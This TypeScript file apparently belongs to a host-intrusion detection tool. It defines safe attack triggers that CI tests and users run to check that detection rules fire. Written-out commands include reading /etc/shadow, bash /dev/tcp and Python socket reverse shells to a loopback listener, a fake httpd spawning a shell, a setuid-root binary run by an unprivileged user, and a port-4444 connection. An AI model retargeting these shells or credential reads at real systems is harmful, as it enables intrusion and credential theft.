// One trigger per rule: the attack technique the rule is about, done for real and safely. Files only in the
// trigger's scratch directory, connections only to loopback listeners the context started or inside a network
// namespace made for the purpose, reads of sensitive files without keeping their contents, and every process gone
// when the trigger returns. The real-kernel rule tests (test/e2e/rules-attack.test.ts) run these same triggers, so
// what a user runs with `palisade attack` on their node is what CI proves fires.
//
// A trigger does what an attacker does (the technique), not what one rule's test string looks like: where a
// technique has several common spellings, it does more than one.
import { chmodSync, chownSync, copyFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AttackContext, RunResult } from './context.js';
import { EVASION_TRIGGERS } from './evasion-triggers.js';
import { LIBRARY_TRIGGERS, LIBRARY_TRIGGERS_2 } from './library-triggers.js';

export interface Trigger {
  /** The rule it is expected to fire (policies/rules, METADATA custom.id). */
  rule: string;
  /** MITRE ATT&CK technique id. */
  technique: string;
  /** What it does, in one line. */
  what: string;
  /** Needs root (setuid files, namespaces, raw sockets). */
  root?: boolean;
  /** Why this node cannot show the rule firing (a kernel without the hook), or undefined when it can. */
  unavailable?: () => string | undefined;
  run(ctx: AttackContext): Promise<RunResult[]>;
}

export const PYTHON = '/usr/bin/python3';

/** Python snippet: connect to 127.0.0.1:port and make the socket the process' stdin, stdout and stderr. */
export function pySocketStdio(port: number): string {
  return `import os, socket; s = socket.create_connection(("127.0.0.1", ${port})); ` +
    '[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]';
}

export const TRIGGERS: readonly Trigger[] = [
  {
    rule: 'PAL-001',
    technique: 'T1003.008',
    what: 'reads /etc/shadow as written and spelled otherwise (/etc//shadow, a ../ detour)',
    run: async (ctx) => [
      await ctx.run(['cat', '/etc/shadow'], {}),
      await ctx.sh('cat /etc//shadow > /dev/null; cat /etc/../etc/shadow > /dev/null'),
    ],
  },
  {
    rule: 'PAL-002',
    technique: 'T1059.004',
    what: 'reverse shells to a loopback listener: bash -i >& /dev/tcp, and Python dup2-ing a socket onto its stdio',
    run: async (ctx) => {
      // The listener sends each shell one command and exit, so it ends by itself.
      const port = await ctx.listen('id\nexit\n');
      const py = `${pySocketStdio(port)}; import subprocess; subprocess.call(["/bin/sh", "-i"])`;
      return [
        await ctx.run(['/bin/bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]),
        await ctx.run([PYTHON, '-c', py]),
      ];
    },
  },
  {
    rule: 'PAL-006',
    technique: 'T1059.004',
    what: 'a service process (a copy of dash named httpd, as an exploited web server) spawning sh -c',
    run: async (ctx) => {
      const httpd = join(ctx.scratch, 'httpd');
      copyFileSync('/bin/dash', httpd);
      chmodSync(httpd, 0o755);
      // "; true" keeps the fake server from exec'ing the command in place of forking it.
      return [await ctx.run([httpd, '-c', '/bin/sh -c id; true'])];
    },
  },
  {
    rule: 'PAL-003',
    technique: 'T1548.001',
    what: 'a setuid-root copy of id in the scratch directory, executed by an unprivileged user',
    root: true,
    run: async (ctx) => {
      const bin = join(ctx.scratch, 'suid-id');
      copyFileSync('/usr/bin/id', bin);
      chownSync(bin, 0, 0);
      chmodSync(bin, 0o4755);
      return [await ctx.run(['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', bin])];
    },
  },
  {
    rule: 'PAL-004',
    technique: 'T1571',
    what: 'connects to port 4444 of a TEST-NET address, inside a network namespace of its own (nothing leaves)',
    root: true,
    run: async (ctx) => {
      const py = 'import socket\ns = socket.socket()\ns.settimeout(1)\ntry: s.connect(("198.51.100.7", 4444))\n' +
        'except OSError: pass';
      return [await ctx.run(['unshare', '--net', PYTHON, '-c', py])];
    },
  },
  // PAL-010 .. PAL-039, the rule library's part 1.
  ...LIBRARY_TRIGGERS,
  ...LIBRARY_TRIGGERS_2,
  // PAL-049 .., rules that close evasions of the others.
  ...EVASION_TRIGGERS,
];

export function triggersFor(rule: string): Trigger[] {
  if (rule === 'all') return [...TRIGGERS];
  const found = TRIGGERS.filter((t) => t.rule === rule.toUpperCase());
  return found;
}
